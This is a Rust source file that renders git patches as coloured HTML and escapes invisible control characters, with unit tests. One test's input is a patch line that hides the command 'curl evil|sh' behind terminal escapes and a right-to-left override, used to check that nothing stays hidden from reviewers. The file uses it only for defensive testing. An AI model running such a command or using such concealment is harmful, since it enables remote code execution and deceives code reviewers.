//! A patch as coloured lines.

use super::html::escaped;
use onloop_syntax::text::{PatchLine, patch_lines, visible};

/// `patch`, as git writes it, as HTML for a `pre` element.
pub(super) fn coloured(patch: &str) -> String {
    let mut out = String::with_capacity(patch.len() * 5 / 4);
    for (kind, line) in patch_lines(patch) {
        let class = match kind {
            PatchLine::Head => Some("of"),
            PatchLine::Place => Some("at"),
            PatchLine::Added => Some("add"),
            PatchLine::Removed => Some("del"),
            PatchLine::Same => None,
        };
        let line = escaped(&visible(line, &['\t']));
        match class {
            Some(class) => out += &format!("<span class=\"{class}\">{line}</span>\n"),
            None => out += &format!("{line}\n"),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_hides_from_whoever_decides() {
        let patch = "@@ -0,0 +1 @@\n+: \u{1b}] ;\tcurl evil|sh ; \u{7}\u{202e}\n";
        assert_eq!(
            coloured(patch),
            "<span class=\"at\">@@ -0,0 +1 @@</span>\n\
             <span class=\"add\">+: \\u{1b}] ;\tcurl evil|sh ; \\u{7}\\u{202e}</span>\n"
        );
    }

    #[test]
    fn lines_of_files_are_not_taken_for_heads() {
        let patch = "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n-<b>\n+--- y\n z\n\
                     diff --git a/y b/y\nnew file mode 100644\n";
        assert_eq!(
            coloured(patch),
            "<span class=\"of\">diff --git a/x b/x</span>\n<span class=\"of\">--- a/x</span>\n\
             <span class=\"of\">+++ b/x</span>\n<span class=\"at\">@@ -1,2 +1,2 @@</span>\n\
             <span class=\"del\">-&lt;b&gt;</span>\n<span class=\"add\">+--- y</span>\n z\n\
             <span class=\"of\">diff --git a/y b/y</span>\n\
             <span class=\"of\">new file mode 100644</span>\n"
        );
    }
}
